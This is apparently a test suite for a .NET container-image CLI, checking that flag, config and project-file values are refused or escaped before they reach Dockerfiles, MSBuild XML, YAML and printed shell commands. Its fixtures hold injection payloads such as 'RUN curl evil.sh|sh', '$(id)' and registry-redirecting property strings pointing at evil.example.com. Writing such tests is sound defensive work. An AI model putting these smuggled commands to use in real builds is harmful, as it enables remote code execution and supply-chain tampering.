// Values from flags, config files and project files reach Dockerfiles, YAML, XML, MSBuild and
// buildx arguments and printed shell commands: each is refused with exit 2 and one line, or
// arrives in the grammar of what reads it (checked here by parsing the output back).
import {spawnSync} from 'node:child_process';
import {cp, mkdir, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import {validate} from 'dockerfile-utils';
import {execa} from 'execa';
import {XMLParser, XMLValidator} from 'fast-xml-parser';
import {parse as parseYaml} from 'yaml';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {InputError} from '../source/engine/resolve.js';
import {ociOutput} from '../source/grammar/buildx-output.js';
import {msbuildPropertyText} from '../source/grammar/msbuild.js';
import {xmlText} from '../source/grammar/xml-text.js';
import {imageNameOf, makeProject} from '../source/project/project.js';
import {buildxCommandLine} from '../source/render/build-command.js';
import {containerProperties, renderCsproj} from '../source/render/csproj.js';
import {renderDockerfile} from '../source/render/dockerfile.js';
import {renderZerops} from '../source/render/zerops.js';
import {parseBaseRegistry} from '../source/runner/base-registry.js';
import {commandLine, planBuild} from '../source/runner/plan.js';
import {commandFrom} from '../source/session/next-steps.js';
import {commandRows} from '../source/session/command-rows.js';
import {recommendationFor} from './answers.js';
import {fixture, runCli} from './cli-run.js';
import {missingTools} from './support/requirements.js';

/**
 * The words a POSIX shell reads from a printed command line: each program it names is a shell
 * function that prints its name and arguments, so nothing runs. `&&` and `;` join several.
 */
function shellWords(line: string): string[][] {
	const programs = ['cd', 'docker', 'dotnet', 'podman', 'buildah'];
	const functions = programs.map(program => `${program}() { printf '%s\\0' ${program} "$@"; printf '\\1'; }`).join('\n');
	const result = spawnSync('sh', ['-c', `${functions}\n${line}`], {encoding: 'utf8'});
	expect(result.status, `${line}\n${result.stderr}`).toBe(0);
	return result.stdout.split('\u0001').filter(Boolean).map(command => command.split('\0').slice(0, -1));
}

const oneLine = (text: string) => text.trim().split('\n');

describe('flag values refused as the command line is read: exit 2, one line naming the flag', () => {
	const refusals: Array<[string[], string]> = [
		[['--image', 'x\nRUN curl evil.sh|sh', '--output', 'dockerfile'], '--image: "x\\nRUN curl evil.sh|sh" is not an image reference'],
		[['--image', 'a&b', '--output', 'csproj'], '--image: "a&b" is not an image reference'],
		[['--engine', 'sdk', '--image', 'app,ContainerRegistry=evil.example.com', '--push', '--dry-run'], '--image: "app,ContainerRegistry=evil.example.com" is not an image reference'],
		[['--image', 'MyApp'], '--image: "MyApp" is not an image reference'],
		[['--image='], '--image: an image name cannot be empty.'],
		[['--image', `app@sha256:${'a'.repeat(64)}`], '--image: "app@sha256:aaaa'],
		[['--image', 'app:$(id)'], '--image: "app:$(id)" is not an image reference'],
		[['--base-registry', 'registry.example.com/mcr\nRUN evil'], '--base-registry: "registry.example.com/mcr\\nRUN evil" is not a registry'],
		[['--base-registry', 'mirror'], '--base-registry: "mirror" would be read as a Docker Hub namespace'],
		[['--base-registry', 'https://registry.example.com'], '--base-registry: "https://registry.example.com" has a scheme'],
		[['--builder', 'my builder'], '--builder: "my builder" is not a buildx builder name'],
		[['--builder', '$(id)'], '--builder: "$(id)" is not a buildx builder name'],
		[['--oci', 'image.tar\nx'], '--oci: "image.tar\\nx" has a control character'],
		[['--engine', 'bogus'], '--engine: "bogus" is not a build engine (accepted: docker, podman, buildah, sdk).'],
		[['--engine', '\u001B]0;pwned\u0007'], '--engine: "\\x1b]0;pwned\\x07" is not a build engine'],
		[['--detect', 'bogus'], '--detect: "bogus" is not a reader (accepted: msbuild, xml).'],
		[['--os', 'bogus'], '--os: "bogus" is not a valid distribution'],
		[['--dotnet', '10.0\nRUN evil'], '--dotnet: "10.0\\nRUN evil" is not a .NET version like 10.0.'],
		[['--arch', 'amd64,sparc'], '--arch: unknown architecture "sparc"'],
		[['--output', 'helm'], '--output: unknown file "helm"'],
	];
	it.each(refusals)('%j', async (args, message) => {
		// A project that does not exist: the flag's value is what the error names, before any project is looked for.
		const {exitCode, stdout, stderr} = await runCli(['--yes', '--project', '/nonexistent/App.csproj', ...args]);
		expect(exitCode).toBe(2);
		expect(stdout).toBe('');
		expect(oneLine(stderr)).toHaveLength(1);
		expect(stderr).toContain(`dotnet-image-wizard: ${message}`);
	});

	it('accepts the values a user means: a registry with a port, a path, a tag', async () => {
		const {exitCode, stdout} = await runCli(['--yes', '--detect', 'xml', '--image', 'localhost:5000/team/web-api:1.0-rc.1', '--output', 'dockerfile']);
		expect(exitCode).toBe(0);
		expect(stdout).toContain('--tag localhost:5000/team/web-api:1.0-rc.1');
	});

	it('gives a registry with a port the :latest tag it has not got (the colon is the port\'s)', async () => {
		const {exitCode, stdout} = await runCli(['--yes', '--detect', 'xml', '--image', 'localhost:5000/app', '--engine', 'podman', '--dry-run', '--arch', 'amd64']);
		expect(exitCode).toBe(0);
		expect(stdout).toContain('--tag localhost:5000/app:latest');
	});
});

describe('image names from files', () => {
	let folder = '';
	beforeAll(async () => {
		folder = await mkdtemp(path.join(os.tmpdir(), 'diw-grammar-'));
	});
	afterAll(async () => rm(folder, {recursive: true, force: true}));

	it('refuses a config file\'s "image" that is no image reference, naming the file and the key', async () => {
		const config = path.join(folder, 'hostile.json');
		await writeFile(config, JSON.stringify({image: 'app\nRUN curl evil.sh|sh'}));
		const {exitCode, stdout, stderr} = await runCli(['--yes', '--detect', 'xml', '--config', config, '--output', 'dockerfile']);
		expect(exitCode).toBe(2);
		expect(stdout).toBe('');
		expect(oneLine(stderr)).toHaveLength(1);
		expect(stderr).toMatch(/hostile\.json:? "image":? "app\\nRUN curl evil\.sh\|sh" is not an image reference/);
	});

	it('refuses a ContainerRepository that is no repository name, naming the project file, unless --image names the image', async () => {
		const project = path.join(folder, 'hostile-repository');
		await mkdir(project);
		await writeFile(path.join(project, 'Api.csproj'), '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net10.0</TargetFramework><ContainerRepository>a&amp;b;c,ContainerRegistry=evil.example.com</ContainerRepository></PropertyGroup></Project>\n');
		const refused = await runCli(['--yes', '--detect', 'xml', '--output', 'csproj'], {cwd: project});
		expect(refused.exitCode).toBe(2);
		expect(oneLine(refused.stderr)).toHaveLength(1);
		expect(refused.stderr).toContain('dotnet-image-wizard: Api.csproj: ContainerRepository "a&b;c,ContainerRegistry=evil.example.com" is not an image repository name');
		expect(refused.stderr).toContain('pass --image NAME');
		const named = await runCli(['--yes', '--detect', 'xml', '--output', 'csproj', '--image', 'api'], {cwd: project});
		expect(named.exitCode).toBe(0);
		expect(named.stdout).toContain('<ContainerRepository>api</ContainerRepository>');
	});

	it('says a ContainerRepository that starts with a registry belongs in ContainerRegistry', () => {
		expect(() => imageNameOf(makeProject({name: 'Api', repository: 'registry.example.com/team/api'}), 'Api.csproj')).toThrow('Api.csproj: ContainerRepository "registry.example.com/team/api" starts with a registry (registry.example.com), which the SDK takes as part of the repository name: set ContainerRegistry to it and ContainerRepository to team/api, or pass --image NAME.');
		expect(imageNameOf(makeProject({name: 'Api', repository: 'team/api'}))).toBe('team/api');
	});

	it('makes an image name of any assembly name the distribution grammar accepts', () => {
		const names: Array<[string, string]> = [['SampleApi', 'sampleapi'], ['My.App', 'my.app'], ['My..App', 'my-app'], ['A_-B', 'a-b'], ['Web-', 'web'], ['__', 'app'], ['X'.repeat(300), 'x'.repeat(128)]];
		for (const [name, image] of names) expect(imageNameOf(makeProject({name}))).toBe(image);
	});
});

describe('container.props: the image as the SDK names its parts, in XML that MSBuild reads back', () => {
	const recommendation = recommendationFor({});
	const project = makeProject({name: 'Api', projectFile: 'src/Api/Api.csproj'});

	it('splits registry/repository:tag into ContainerRegistry, ContainerRepository and ContainerImageTag', () => {
		expect(containerProperties(recommendation, 'registry.example.com:5000/team/api:1.0')).toMatchObject({ContainerRegistry: 'registry.example.com:5000', ContainerRepository: 'team/api', ContainerImageTag: '1.0'});
		const bare = containerProperties(recommendation, 'team/api');
		expect(bare).toMatchObject({ContainerRepository: 'team/api'});
		expect(bare).not.toHaveProperty('ContainerRegistry');
		expect(bare).not.toHaveProperty('ContainerImageTag');
		expect(() => containerProperties(recommendation, 'a&b')).toThrow(InputError);
	});

	it('is well-formed XML, also for a project file whose name has "--" (which no comment may hold)', () => {
		for (const file of ['src/Api/Api.csproj', 'src/my--api/my--api.csproj']) {
			const content = `<Project>\n${renderCsproj(recommendation, makeProject({name: 'Api', projectFile: file}), 'registry.example.com/api:1.0')}</Project>\n`;
			expect(XMLValidator.validate(content), content).toBe(true);
			for (const comment of content.matchAll(/<!--(.*?)-->/gs)) expect(comment[1]).not.toContain('--');
		}
		const parsed = new XMLParser({parseTagValue: false}).parse(renderCsproj(recommendation, project, 'registry.example.com/team/api:1.0')) as {PropertyGroup: Record<string, string>};
		expect(parsed.PropertyGroup).toMatchObject({ContainerRegistry: 'registry.example.com', ContainerRepository: 'team/api', ContainerImageTag: '1.0'});
	});

	it('names the publish command in its comment as a shell reads it', () => {
		const comment = /then: (.*) -->/.exec(renderCsproj(recommendation, project, 'api'))![1]!;
		expect(shellWords(comment)).toEqual([['dotnet', 'publish', 'src/Api/Api.csproj', '-c', 'Release', '/t:PublishContainer']]);
	});

	it('escapes property text for XML and for MSBuild, refusing what XML cannot hold', () => {
		expect(xmlText(msbuildPropertyText('P', 'a&b<c>$(X)@(Y)%41;d\'*?'), 'P')).toBe('a&amp;b&lt;c&gt;%24%28X%29%40%28Y%29%2541%3Bd%27%2A%3F');
		expect(() => xmlText('a\u0001b', 'ContainerRepository')).toThrow('ContainerRepository: the value has a character XML cannot hold.');
	});

	const missing = missingTools(['dotnet']);
	it.skipIf(missing !== '')(`reads back in real MSBuild as written, nothing expanded or split${missing}`, async () => {
		const folder = await mkdtemp(path.join(os.tmpdir(), 'diw-props-'));
		try {
			const hostile = 'a&b<c>$(MSBuildProjectName)@(Item)%41;d\'*?"';
			const props = renderCsproj(recommendation, project, 'registry.example.com:5000/team/api:1.0-rc')
				.replace('</PropertyGroup>', `  <Hostile>${xmlText(msbuildPropertyText('Hostile', hostile), 'Hostile')}</Hostile>\n</PropertyGroup>`);
			await writeFile(path.join(folder, 'container.props'), `<Project>\n${props}</Project>\n`);
			await writeFile(path.join(folder, 'probe.proj'), '<Project>\n  <Import Project="container.props" />\n  <Target Name="Build" />\n</Project>\n');
			const names = ['ContainerRegistry', 'ContainerRepository', 'ContainerImageTag', 'ContainerRuntimeIdentifiers', 'Hostile'];
			const {stdout} = await execa('dotnet', ['msbuild', 'probe.proj', '-nologo', ...names.map(name => `-getProperty:${name}`)], {cwd: folder, env: {DOTNET_CLI_TELEMETRY_OPTOUT: '1', DOTNET_NOLOGO: '1'}});
			expect((JSON.parse(stdout) as {Properties: Record<string, string>}).Properties).toEqual({
				ContainerRegistry: 'registry.example.com:5000',
				ContainerRepository: 'team/api',
				ContainerImageTag: '1.0-rc',
				ContainerRuntimeIdentifiers: 'linux-x64;linux-arm64',
				Hostile: hostile,
			});
		} finally {
			await rm(folder, {recursive: true, force: true});
		}
	}, 60_000);
});

describe('the sdk engine\'s -p: arguments', () => {
	const argv = (image: string, options: {push?: boolean; oci?: string} = {}) => planBuild(recommendationFor({}), {engine: 'sdk', image, contextDirectory: '/src', push: Boolean(options.push), ...(options.oci ? {oci: options.oci} : {})}).steps[0]!.args;

	it('split the image as container.props does, the registry only for a push', () => {
		expect(argv('registry.example.com:5000/team/api:1.0', {push: true})).toEqual(expect.arrayContaining(['-p:ContainerRepository=team/api', '-p:ContainerImageTag=1.0', '-p:ContainerRegistry=registry.example.com:5000']));
		expect(argv('registry.example.com:5000/team/api:1.0').some(argument => argument.startsWith('-p:ContainerRegistry='))).toBe(false);
	});

	it('refuse an image no reference grammar accepts, and keep a hostile archive path one value', () => {
		expect(() => argv('app,ContainerRegistry=evil.example.com', {push: true})).toThrow('is not an image reference');
		expect(argv('api', {oci: '/out/a,b;ContainerRegistry=evil.example.com$(X).tar'})).toContain('-p:ContainerArchiveOutputPath=/out/a%2Cb%3BContainerRegistry=evil.example.com%24(X).tar');
	});
});

describe('buildx --output: the archive path as one CSV field', () => {
	it('quotes a path with a comma or a quote, so that it cannot add type=registry', () => {
		expect(ociOutput('/out/image.tar')).toBe('type=oci,dest=/out/image.tar');
		expect(ociOutput('/out/img.tar,type=registry')).toBe('type=oci,"dest=/out/img.tar,type=registry"');
		expect(ociOutput('/out/a"b.tar')).toBe('type=oci,"dest=/out/a""b.tar"');
		expect(() => ociOutput('/out/a\nb.tar')).toThrow(InputError);
	});

	it('reaches the command line that way', async () => {
		const {exitCode, stdout} = await runCli(['--yes', '--detect', 'xml', '--engine', 'docker', '--oci', 'img.tar,type=registry', '--dry-run']);
		expect(exitCode).toBe(0);
		const words = shellWords(stdout.trim().replace(/^\(cd \. && (.*)\)$/, '$1'))[0]!;
		expect(words[words.indexOf('--output') + 1]).toBe(`type=oci,"dest=${path.join(fixture('web-api'), 'img.tar,type=registry')}"`);
	});
});

describe('printed commands: every argument survives a POSIX shell', () => {
	const awkward = ['My App', '#x', '$(id)', '`id`', 'it\'s', 'a;b', '-dash', '~home'];

	it('the buildx line (the Build: hint and the Dockerfile\'s comment)', () => {
		for (const folder of awkward) {
			const line = buildxCommandLine(recommendationFor({}), {image: 'api:1.0', output: {oci: `/out/${folder}.tar`}, context: folder, dockerfile: `${folder}/Dockerfile`});
			const [words] = shellWords(line);
			expect(words!.at(-1), line).toBe(folder.startsWith('-') ? `./${folder}` : folder);
			expect(words![words!.indexOf('--file') + 1]).toBe(`${folder.startsWith('-') ? './' : ''}${folder}/Dockerfile`);
		}
	});

	it('the plans of every engine, as --dry-run and the wizard print them', () => {
		for (const engine of ['docker', 'podman', 'buildah', 'sdk'] as const) {
			for (const folder of awkward) {
				const plan = planBuild(recommendationFor({arch: ['amd64', 'arm64']}), {engine, image: 'registry.example.com/api:1.0', push: false, oci: `/out/${folder}.tar`, contextDirectory: '/src', ...(engine === 'sdk' ? {projectFile: 'Api.csproj'} : {dockerfile: `/tmp/${folder}/Dockerfile`}), environment: {}});
				expect(shellWords(commandLine(plan)).map(([command, ...args]) => ({command, args})), `${engine} ${folder}`).toEqual(plan.steps.map(({command, args}) => ({command, args})));
			}
			const plan = planBuild(recommendationFor({arch: ['amd64', 'arm64']}), {engine, image: 'api:1.0', push: false, contextDirectory: '/src', dockerfile: '/tmp/My App $(id)/Dockerfile', environment: {STORAGE_DRIVER: 'vfs', BUILDAH_ISOLATION: 'chroot'}});
			expect(shellWords(commandLine(plan)).map(([command, ...args]) => ({command, args}))).toEqual(plan.steps.map(({command, args}) => ({command, args})));
		}
	});

	it('the next steps, from the folder a person stands in', () => {
		for (const folder of awkward) {
			const plan = planBuild(recommendationFor({arch: ['amd64']}), {engine: 'docker', image: 'api:1.0', push: false, contextDirectory: path.join('/work', folder)});
			const [cd, build] = shellWords(commandFrom('/work', plan));
			expect(cd).toEqual(['cd', folder.startsWith('-') ? `./${folder}` : folder]);
			expect(build).toEqual(['docker', ...plan.steps[0]!.args]);
		}
	});

	it('the wizard\'s rows: broken between words, the same words once the shell joins them', () => {
		const plan = planBuild(recommendationFor({}), {engine: 'podman', image: 'api:1.0', push: true, contextDirectory: '/src', dockerfile: '/tmp/it\'s My App $(id) #x/Dockerfile', environment: {}});
		const line = commandLine(plan);
		const rows = commandRows(line, 40);
		expect(rows.length).toBeGreaterThan(1);
		expect(shellWords(rows.join('\n'))).toEqual(shellWords(line));
	});

	it('the Build: hint after --write, from a folder whose name a shell would read as syntax', async () => {
		const parent = await mkdtemp(path.join(os.tmpdir(), 'diw-printed-'));
		try {
			const folder = path.join(parent, 'My App $(id) #x');
			await cp(fixture('web-api'), folder, {recursive: true});
			const {exitCode, stdout} = await runCli(['--yes', '--detect', 'xml', '--project', folder, '--write', '--arch', 'amd64'], {cwd: parent});
			expect(exitCode).toBe(0);
			const hint = /^Build: (.*)$/m.exec(stdout)![1]!;
			expect(shellWords(hint)[0]!.at(-1)).toBe('My App $(id) #x');
			const dockerfile = await readFile(path.join(folder, 'Dockerfile'), 'utf8');
			expect(validate(dockerfile).filter(diagnostic => diagnostic.severity === 1)).toEqual([]);
			expect(shellWords(/^# Build: (.*)$/m.exec(dockerfile)![1]!)[0]!.at(-1)).toBe('.');
		} finally {
			await rm(parent, {recursive: true, force: true});
		}
	});

	it('the Dockerfile printed from another folder names that folder, quoted, in its one-line # Build: comment', async () => {
		const parent = await mkdtemp(path.join(os.tmpdir(), 'diw-printed-'));
		try {
			const folder = path.join(parent, 'it\'s $(id)');
			await cp(fixture('web-api'), folder, {recursive: true});
			const {exitCode, stdout} = await runCli(['--yes', '--detect', 'xml', '--project', folder, '--output', 'dockerfile'], {cwd: parent});
			expect(exitCode).toBe(0);
			expect(validate(stdout).filter(diagnostic => diagnostic.severity === 1)).toEqual([]);
			const words = shellWords(/^# Build: (.*)$/m.exec(stdout)![1]!)[0]!;
			expect(words.at(-1)).toBe('it\'s $(id)');
		} finally {
			await rm(parent, {recursive: true, force: true});
		}
	});
});

describe('the renderers check again what reaches a file', () => {
	const recommendation = recommendationFor({});
	const project = makeProject({name: 'Api', projectFile: 'Api.csproj'});

	it('refuse a project that did not pass makeProject, rather than write its name as an instruction', () => {
		const hostile = {...project, name: 'App"]\nRUN curl evil.sh|sh #'};
		expect(() => renderDockerfile(recommendation, hostile, 'api')).toThrow(InputError);
		expect(() => renderZerops(recommendation, hostile)).toThrow(InputError);
		expect(() => renderDockerfile(recommendation, {...project, projectFile: '-x.csproj'}, 'api')).toThrow(InputError);
		expect(() => renderDockerfile(recommendation, {...project, restoreFiles: ['a b.props']}, 'api')).toThrow(InputError);
	});

	it('never let a line break end the # Build: comment', () => {
		expect(() => renderDockerfile(recommendation, project, 'api', {placement: {context: 'a\nRUN evil'}})).toThrow('"# Build:" line has a line break');
	});

	it('write ENTRYPOINT in exec form and the zerops.yml commands as YAML strings a shell reads back', () => {
		expect(renderDockerfile(recommendation, project, 'api')).toContain('ENTRYPOINT ["dotnet", "Api.dll"]');
		expect(renderDockerfile(recommendationFor({deploy: 'aot'}), project, 'api')).toContain('ENTRYPOINT ["./Api"]');
		const zerops = parseYaml(renderZerops(recommendationFor({deploy: 'framework', startup: 'jit'}), project).content) as {zerops: Array<{build: {buildCommands: string[]}; run: {start: string}}>};
		expect(shellWords(zerops.zerops[0]!.build.buildCommands[0]!)).toEqual([['dotnet', 'publish', 'Api.csproj', '-c', 'Release', '-o', 'app']]);
		expect(zerops.zerops[0]!.run.start).toBe('dotnet Api.dll');
	});

	it('refuse a mirror docker would read as a Docker Hub namespace', () => {
		expect(parseBaseRegistry('localhost')).toBe('localhost');
		expect(parseBaseRegistry('[::1]:5000/mcr')).toBe('[::1]:5000/mcr');
		expect(() => parseBaseRegistry('mirror/mcr')).toThrow('would be read as a Docker Hub namespace');
	});
});
